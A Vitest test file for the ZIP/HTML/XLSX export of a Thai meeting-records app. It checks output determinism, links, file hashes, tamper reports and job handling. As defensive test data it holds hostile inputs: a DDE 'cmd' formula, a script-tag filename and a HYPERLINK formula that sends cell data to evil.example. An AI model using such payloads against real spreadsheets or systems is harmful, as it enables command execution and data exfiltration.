import { createHash } from 'node:crypto'
import { readdirSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { beforeEach, describe, expect, test } from 'vitest'
import { readSheets } from '../../electron/core/xlsx/readSheets.ts'
import type { Api } from '../../shared/api.ts'
import { PART_BYTES } from '../../shared/model/attachment.ts'
import { validate, validatorPresent } from '../documents/validator.ts'
import { attach } from '../helpers/attach.ts'
import { ended, exported, isPage, linkedFrom } from '../helpers/exported.ts'
import { tamper } from '../helpers/storeFile.ts'
import { tempFolder } from '../helpers/tempFolder.ts'
import { openSampleOffice, openTestOffice, refusalOf, type TestOffice } from '../helpers/testOffice.ts'

const ITEM = 'phrae-item-4'
const MEETING = 'การประชุม/01 คณะอนุกรรมการฯ/2563/2563-11-24 ครั้งที่ 4'
const FILES = `${MEETING}/ไฟล์แนบ/04 เรื่องเพื่อพิจารณา`
const HOSTILE = [`=cmd|' C calc'!A0`, '<script>alert(1)<b>.html', 'CON.txt', `${'รายงานผลการดำเนินงาน'.repeat(12)}.pdf`]

let office: TestOffice
let api: Api
beforeEach(async () => {
  office = await openSampleOffice()
  api = office.api
})

const folders = (): string[] => readdirSync(tmpdir()).filter((name) => name.startsWith('lekha-export-'))
const text = (bytes: Uint8Array | undefined): string => Buffer.from(bytes ?? []).toString('utf8')
const table = (files: Record<string, Uint8Array>, book: string, sheet: string): string[][] =>
  readSheets(Buffer.from(files[`ตาราง/${book}.xlsx`] ?? [])).sheets.find((one) => one.sheet === sheet)?.rows ?? []
const column = (rows: string[][], head: string): Array<string | undefined> => {
  const at = rows[0]?.indexOf(head) ?? -1
  expect(at, head).toBeGreaterThanOrEqual(0)
  return rows.slice(1).map((row) => row[at])
}

describe('the whole office', () => {
  test('is the same bytes whenever it is exported, and from the store its own JSON was read into', async () => {
    const first = await exported(api)
    office.ports.clock.now = '2031-05-05T05:00:00.000Z'
    expect((await exported(api)).zip.equals(first.zip)).toBe(true)
    const other = await openTestOffice({ prefix: 'other' })
    await other.api.exchange.import({ json: text(first.files['office.lekha.json']) })
    expect((await exported(other.api)).zip.equals(first.zip)).toBe(true)
    const { json } = await api.exchange.export({})
    expect(text(first.files['office.lekha.json'])).toBe(json)
    expect(first.result).toMatchObject({ papers: 9, files: 0, notes: [] })
  })

  test('has every paper as it is written alone, the issued one as it was frozen, drafts by that name', async () => {
    const draft = await api.documents.get({ id: 'phrae-doc-agenda' })
    await api.documents.issue({ id: draft.id, revision: draft.revision })
    const frozen = await api.documents.docx({ id: draft.id })
    const meeting = await api.meetings.get({ id: 'phrae-meeting-4-2563' })
    await api.meetings.update({ id: meeting.id, revision: meeting.revision, change: { place: 'ห้องใหม่' } })
    const { files } = await exported(api)
    expect(Buffer.from(files[`${MEETING}/01 ระเบียบวาระการประชุม 4-2563.docx`] ?? []).toString('base64')).toBe(
      frozen.base64,
    )
    expect(Object.keys(files)).toContain(`${MEETING}/02 ร่าง รายงานการประชุม 4-2563.docx`)
    expect(Object.keys(files).filter((path) => path.endsWith('.docx'))).toHaveLength(9)
  })

  test('leads from its index to each of its files, and nowhere else', async () => {
    for (const fileName of HOSTILE) await attach(api, { itemId: ITEM, fileName, bytes: Buffer.from(fileName) })
    const { files } = await exported(api)
    expect([...linkedFrom(files)].sort()).toEqual(Object.keys(files).sort())
    for (const [path, bytes] of Object.entries(files))
      if (isPage(path)) {
        expect(text(bytes)).not.toMatch(/<script|javascript:|https?:|src=/i)
        expect(text(bytes)).toMatch(/^<!doctype html>\n<html lang="th"><head><meta charset="utf-8">/)
      }
    expect(text(files['index.html'])).toContain('&#60;script&#62;alert(1)&#60;b&#62;.html')
  })

  test('that is long has a page for each year of a committee, which leads back', async () => {
    const [letter] = await api.letters.list({})
    for (let at = 0; at < 150; at++) {
      await attach(api, { itemId: ITEM, fileName: `แนบ ${at}.txt`, bytes: Buffer.from(`${at}`) })
      await attach(api, { letterId: letter?.id ?? '', fileName: `หนังสือ ${at}.txt`, bytes: Buffer.from(`${at}`) })
    }
    const { files } = await exported(api)
    const pages = Object.keys(files).filter(isPage)
    expect(pages.length).toBeGreaterThan(6)
    for (const path of pages) if (path !== 'index.html') expect(text(files[path])).toContain('href="../index.html"')
    expect([...linkedFrom(files)].sort()).toEqual(Object.keys(files).sort())
    expect(text(files['index.html']).length).toBeLessThan(20_000)
  })

  test('counts before it is made, nearly as large as it comes out', async () => {
    await attach(api, { itemId: ITEM, fileName: 'แนบ.pdf', bytes: Buffer.alloc(400_000, 7) })
    const offer = await api.exports.offer({})
    expect(offer).toMatchObject({ meetings: 3, issued: 0, drafts: 9, files: 1, fileBytes: 400_000 })
    const { zip } = await exported(api)
    expect(offer.bytes / zip.length).toBeGreaterThan(0.6)
    expect(offer.bytes / zip.length).toBeLessThan(1.6)
  })

  test('of an empty store is an index that says so', async () => {
    const empty = await openTestOffice({ prefix: 'empty' })
    const { files } = await exported(empty.api)
    expect(text(files['index.html'])).toContain('ยังไม่มีข้อมูล')
    expect([...linkedFrom(files)].sort()).toEqual(Object.keys(files).sort())
  })
})

describe('attached files', () => {
  test('lie in folders of their items by safe names, with their hashes in the list', async () => {
    const big = Buffer.alloc(PART_BYTES - 1, 'ก')
    for (const fileName of HOSTILE)
      await attach(api, {
        itemId: ITEM,
        fileName,
        bytes: Buffer.concat([big, Buffer.from(fileName)]).subarray(-PART_BYTES),
      })
    const { files, result } = await exported(api)
    expect(Object.keys(files).filter((path) => path.startsWith(FILES))).toEqual([
      `${FILES}/01 =cmd-' C calc'!A0`,
      `${FILES}/02 -script-alert(1)-b-.html`,
      `${FILES}/03 CON.txt`,
      expect.stringMatching(/\/04 รายงานผล.*\.pdf$/),
    ])
    expect(result).toMatchObject({ files: 4, notes: [] })
    const list = readSheets(Buffer.from(files['รายการไฟล์.xlsx'] ?? [])).sheets[0]?.rows ?? []
    const rows = new Map(list.slice(1).map(([path = '', size, hash]) => [path, { size, hash }]))
    const others = Object.entries(files).filter(([path]) => path !== 'รายการไฟล์.xlsx')
    expect(rows.size).toBe(others.length)
    for (const [path, bytes] of others)
      expect(rows.get(path), path).toEqual({
        size: String(bytes.length),
        hash: createHash('sha256').update(bytes).digest('hex'),
      })
    const rowsOf = table(files, '06 เอกสารและไฟล์แนบ', 'เอกสารแนบ')
    expect(column(rowsOf, 'ชื่อไฟล์')).toEqual(HOSTILE)
    expect(column(rowsOf, 'ผลการตรวจเนื้อไฟล์')).toEqual(HOSTILE.map(() => 'ครบถ้วน'))
  })

  test('that are damaged or not here are named in the report, in the table and on the page', async () => {
    const [torn, gone] = [
      await attach(api, { itemId: ITEM, fileName: 'ขาด.pdf', bytes: Buffer.from('0123456789') }),
      await attach(api, { itemId: ITEM, fileName: 'หาย.pdf', bytes: Buffer.from('abcdefghij') }),
    ]
    await office.close()
    tamper(
      office.file,
      `UPDATE attachment_part SET data = x'30' WHERE attachment_id = '${torn.id}'`,
      `DELETE FROM attachment_part WHERE attachment_id = '${gone.id}'`,
    )
    const again = await openTestOffice({ file: office.file, prefix: 'again' })
    const { files, result } = await exported(again.api)
    expect(result.notes.map(({ title, path, left }) => [title, path, left])).toEqual([
      [torn.title, `${FILES}/01 ขาด.pdf`, false],
      [gone.title, '', true],
    ])
    expect(result.files).toBe(1)
    expect(text(files[`${FILES}/01 ขาด.pdf`])).toBe('0')
    const page = text(files['index.html'])
    expect(page).toContain('ข้อที่ควรรู้ 2 ข้อ')
    expect(page).toContain('เนื้อไฟล์ไม่ตรงกับที่บันทึกไว้เมื่อแนบ')
    expect(page).toContain('ไม่มีในชุดนี้: ไม่มีเนื้อไฟล์ในเครื่องนี้')
    expect(column(table(files, '06 เอกสารและไฟล์แนบ', 'เอกสารแนบ'), 'ไฟล์ในชุดส่งออก')).toEqual([`${FILES}/01 ขาด.pdf`, ''])
    expect([...linkedFrom(files)].sort()).toEqual(Object.keys(files).sort())
  })

  test('of letters and of reports lie with these', async () => {
    const [letter] = await api.letters.list({})
    await attach(api, { letterId: letter?.id ?? '', fileName: 'หนังสือ.pdf', bytes: Buffer.from('1') })
    const clause = await api.clauses.get({ id: 'phrae-clause-event-2' })
    const report = await api.progressReports.create({ clauseId: clause.id, date: '2020-12-09', text: 'ทำแล้ว' })
    await attach(api, { progressId: report.id, fileName: 'ภาพ.jpg', bytes: Buffer.from('2') })
    const { files } = await exported(api)
    const paths = Object.keys(files)
    expect(paths.filter((path) => path.startsWith('ไฟล์แนบหนังสือ/'))).toEqual([
      expect.stringMatching(/^ไฟล์แนบหนังสือ\/\d{4}\/01 [^/]+\/01 หนังสือ\.pdf$/),
    ])
    expect(paths.filter((path) => path.includes('/หลักฐาน/'))).toEqual([expect.stringMatching(/\/01 ภาพ\.jpg$/)])
    expect([...linkedFrom(files)].sort()).toEqual(paths.sort())
  })
})

describe('tables', () => {
  test('tell an order with its meeting, its item, who does it and by when', async () => {
    const { files } = await exported(api)
    const rows = table(files, '04 มติและข้อสั่งการ', 'ข้อสั่งการ')
    expect(rows).toHaveLength(1 + (await api.clauses.list({})).length)
    const at = column(rows, 'รหัส').indexOf('phrae-clause-event-2')
    expect(column(rows, 'การประชุม')[at]).toContain('ครั้งที่ 4/2563')
    expect(column(rows, 'กำหนดเสร็จ')[at]).toMatch(/^\d+ [ก-๙]+ 2563$|^$/)
    expect(column(rows, 'สถานะ')[at]).toBe('มอบหมายแล้ว')
    const agencies = await api.agencies.list({})
    const owners = (await api.clauses.get({ id: 'phrae-clause-event-2' })).ownerIds
    expect(column(rows, 'ผู้รับผิดชอบ')[at] ?? '').toBe(
      owners.map((id) => agencies.find((one) => one.id === id)?.name).join('\n'),
    )
  })

  test('keep what looks like a formula a text, wherever it was typed', async () => {
    const evil = `=HYPERLINK("http://evil.example/"&A1,"กด")`
    await api.people.create({ given: evil, note: '@SUM(1+1)|cmd' })
    await api.agencies.create({ name: '+ก', shortName: '-1' })
    const { files } = await exported(api)
    const people = table(files, '01 สำนักงานและทำเนียบ', 'บุคคล')
    expect(column(people, 'ชื่อ')).toContain(evil)
    for (const [path, bytes] of Object.entries(files)) {
      if (!path.endsWith('.xlsx')) continue
      const { unzipSync } = await import('fflate')
      for (const [part, xml] of Object.entries(unzipSync(bytes)))
        if (part.startsWith('xl/worksheets/')) {
          expect(text(xml), `${path} ${part}`).not.toMatch(/<f[\s>/]|t="(?:str|e)"/)
          const risky = [...text(xml).matchAll(/<c r="\w+" s="(\d)" t="inlineStr"><is><t[^>]*>([=+\-@])/g)]
          expect(risky.every(([, style]) => style === '3')).toBe(true)
        }
    }
  })

  test('have the registers as the regulation has them, gaps and all', async () => {
    const { files } = await exported(api)
    const rows = table(files, '05 ทะเบียนหนังสือ', 'หนังสือเวียน (ว)')
    expect(rows[0]).toEqual(
      expect.arrayContaining(['เลขทะเบียนส่ง', 'ที่', 'ลงวันที่', 'จาก', 'ถึง', 'เรื่อง', 'การปฏิบัติ', 'หมายเหตุ']),
    )
    expect(column(rows, 'ที่')).toContain('พร ๐๐๒๓.๔/ว ๕๖๑๕')
  })

  test.runIf(validatorPresent)('are sound workbooks to the Open XML SDK', async () => {
    const folder = tempFolder()
    const { files } = await exported(api)
    const books = Object.entries(files).filter(([path]) => path.endsWith('.xlsx'))
    expect(books.length).toBe(9)
    for (const [path, bytes] of books) expect(validate(bytes, folder, 'xlsx'), path).toEqual([])
  })
})

describe('the work', () => {
  test('is one at a time, stops when asked to, and leaves nothing on the disk', async () => {
    const before = folders()
    await attach(api, { itemId: ITEM, fileName: 'ใหญ่.pdf', bytes: Buffer.alloc(PART_BYTES, 1) })
    const { job } = await api.exports.begin({})
    expect((await refusalOf(office.dispatch('exports.begin', {}))).message).toContain('กำลังทำอีกงานหนึ่งอยู่')
    expect((await refusalOf(office.dispatch('exports.content', { job, part: 0 }))).message).toContain('ยังไม่เสร็จ')
    await api.exports.job({ job, stop: true })
    expect(await ended(api, job)).toMatchObject({ state: 'stopped', result: null })
    expect(folders()).toEqual(before)
    await exported(api)
    // Taken: the ZIP is gone.
    expect(folders()).toEqual(before)
    const left = await api.exports.begin({})
    await ended(api, left.job)
    expect(folders()).toHaveLength(before.length + 1)
    await office.close()
    expect(folders()).toEqual(before)
  })

  test('is of one moment: what is saved meanwhile is not in it', async () => {
    const { job } = await api.exports.begin({})
    const seen = async () => (await api.exports.job({ job })).doing === 'กำลังเขียนเอกสาร'
    while (!(await seen())) await new Promise((resolve) => setTimeout(resolve, 1))
    await api.people.create({ given: 'มาทีหลัง' })
    const { result } = await ended(api, job)
    expect(result?.papers).toBe(9)
    const first = await api.exports.content({ job, part: 0 })
    const { unzipSync } = await import('fflate')
    expect(first.parts).toBe(1)
    const files = unzipSync(Buffer.from(first.base64, 'base64'))
    expect(text(files['office.lekha.json'])).not.toContain('มาทีหลัง')
    expect(column(table(files, '01 สำนักงานและทำเนียบ', 'บุคคล'), 'ชื่อ')).not.toContain('มาทีหลัง')
    expect(text((await exported(api)).files['office.lekha.json'])).toContain('มาทีหลัง')
  })

  test('goes on past a paper that cannot be made, and says which', async () => {
    await api.documents.create({ officeId: 'phrae', kind: 'minutes', title: 'รายงานลอย' })
    const { result, files } = await exported(api)
    expect(result.papers).toBe(9)
    expect(result.notes).toEqual([
      { title: 'รายงานลอย', path: '', left: true, text: expect.stringContaining('ยังไม่ได้ผูกกับการประชุม') },
    ])
    expect(text(files['index.html'])).toContain('รายงานลอย')
  })

  test('puts more notes than one reads on a page of their own', async () => {
    for (let at = 0; at < 21; at++)
      await api.documents.create({ officeId: 'phrae', kind: 'minutes', title: `ลอย ${at}` })
    const { result, files } = await exported(api)
    expect(result.notes).toHaveLength(21)
    expect(text(files['index.html'])).toContain('ข้อที่ควรรู้ 21 ข้อ')
    expect(text(files['index.html'])).not.toContain('ลอย 20')
    expect(text(files['หน้า/01 ข้อที่ควรรู้.html'])).toContain('ลอย 20')
    expect([...linkedFrom(files)].sort()).toEqual(Object.keys(files).sort())
  })

  test('tells an issued paper that was changed behind the program', async () => {
    const { id, revision } = await api.documents.get({ id: 'phrae-doc-agenda' })
    await api.documents.issue({ id, revision })
    await office.close()
    tamper(office.file, `UPDATE document SET hash = '${'0'.repeat(64)}' WHERE id = 'phrae-doc-agenda'`)
    const again = await openTestOffice({ file: office.file, prefix: 'again' })
    const { result } = await exported(again.api)
    expect(result.notes.map(({ path, left, text: words }) => [path, left, words.split(' ')[0]])).toEqual([
      [`${MEETING}/01 ระเบียบวาระการประชุม 4-2563.docx`, false, 'ข้อความไม่ตรงกับค่าตรวจสอบที่ตรึงไว้เมื่อออก'],
    ])
  })
})
